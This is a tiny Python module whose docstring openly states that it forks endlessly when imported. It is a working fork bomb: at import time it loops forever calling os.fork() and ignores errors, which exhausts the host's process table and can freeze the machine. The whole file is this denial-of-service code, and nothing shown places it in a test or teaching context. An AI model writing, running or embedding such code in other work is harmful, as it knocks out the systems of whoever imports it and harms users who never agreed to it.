"""Forks without end when it is imported."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
